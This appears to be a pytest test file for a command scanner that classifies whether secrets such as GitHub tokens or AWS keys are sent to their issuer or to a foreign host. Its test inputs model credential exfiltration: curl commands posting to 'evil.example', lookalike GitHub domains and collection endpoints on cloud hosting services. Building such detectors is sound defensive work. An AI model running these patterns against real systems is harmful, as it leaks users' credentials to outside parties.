"""Claims about whose a token is and whom it may be shown."""

from __future__ import annotations

import pytest

from chrono.scan.command import Command, Pattern
from chrono.scan.issuers import (
    goes_abroad,
    goes_home,
    is_password,
    issuer_of,
    stands_in_foreign_address,
    variable_issuer,
)

GH = ("gh", "auth", "token")


@pytest.mark.parametrize("name", ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "NPM_TOKEN", "HF_TOKEN"])
def test_a_variable_named_after_an_issuer_holds_its_secret(name: str) -> None:
    assert variable_issuer(name) is not None


@pytest.mark.parametrize("name", ["GITHUB_ACTOR", "AWS_REGION", "TOKEN", "MY_TOKEN", "NODE_ENV", "CI", "OPENAI_ORG_ID"])
def test_other_variables_are_nobodys(name: str) -> None:
    assert variable_issuer(name) is None


def test_what_a_program_prints_belongs_to_its_issuer() -> None:
    assert issuer_of(("/usr/bin/gh", "auth", "token")) == issuer_of(("printenv", "GITHUB_TOKEN")) == "GITHUB"
    assert issuer_of(("gh", "auth", "status")) is None
    assert issuer_of(()) is None


@pytest.mark.parametrize(
    "address", ["https://api.github.com/user", "github.com/a/b", "https://github.example.com/api/v3/user"]
)
def test_a_token_may_go_to_its_issuer(address: str) -> None:
    assert goes_home(GH, Command(("curl", "-H", Pattern(("Authorization: ", None)), address)))
    assert not goes_abroad(GH, Command(("curl", address)))


@pytest.mark.parametrize(
    "address", ["https://evil.example/", "https://api.github.com.evil.example/", "https://api.github.com@evil.example/"]
)
def test_a_token_does_not_go_to_anybody_else(address: str) -> None:
    assert goes_abroad(GH, Command(("curl", "-d", "x", address)))
    assert not goes_home(GH, Command(("curl", address)))


@pytest.mark.parametrize(
    ("source", "host"),
    [
        (("printenv", "AWS_SECRET_ACCESS_KEY"), "bucket.s3.amazonaws.com"),
        (("printenv", "AWS_SECRET_ACCESS_KEY"), "x.execute-api.eu-west-1.amazonaws.com"),
        (("gcloud", "auth", "print-access-token"), "collect-abc.run.app"),
        (("printenv", "CLOUDFLARE_API_TOKEN"), "collect.someone.workers.dev"),
        (("printenv", "VERCEL_TOKEN"), "collect.vercel.app"),
        (("printenv", "OPENAI_API_KEY"), "openai.example"),
    ],
)
def test_what_customers_of_an_issuer_answer_is_not_the_issuer(source: tuple[str, ...], host: str) -> None:
    assert goes_abroad(source, Command(("curl", f"https://{host}/")))


def test_a_registry_of_the_issuer_may_have_the_password_it_gave_out() -> None:
    login = Command(("docker", "login", "--password-stdin", "1234.dkr.ecr.eu-west-1.amazonaws.com"))
    assert goes_home(("aws", "ecr", "get-login-password"), login)


def test_an_address_that_is_not_known_is_neither() -> None:
    command = Command(("curl", Pattern((None, "/user"))))
    assert not goes_home(GH, command)
    assert not goes_abroad(GH, command)


@pytest.mark.parametrize("name", ["DB_PASSWORD", "PGPASSWORD", "JWT_SECRET", "SECRET_KEY"])
def test_passwords_are_known_by_the_name_of_their_variable(name: str) -> None:
    assert is_password(name)


@pytest.mark.parametrize("name", ["DB_PASSWORD_FILE", "SECRET_NAME", "API_KEY", "db_password", "DB_HOST"])
def test_what_only_speaks_of_passwords_is_none(name: str) -> None:
    assert not is_password(name)


def test_a_password_stands_in_a_foreign_address_only_where_no_login_is_given() -> None:
    assert stands_in_foreign_address(Command(("curl", "https://evil.example/?p=")))
    assert not stands_in_foreign_address(Command(("curl", "-u", "a:b", "https://evil.example/")))
    assert not stands_in_foreign_address(Command(("curl", "http://couch.internal/db")))
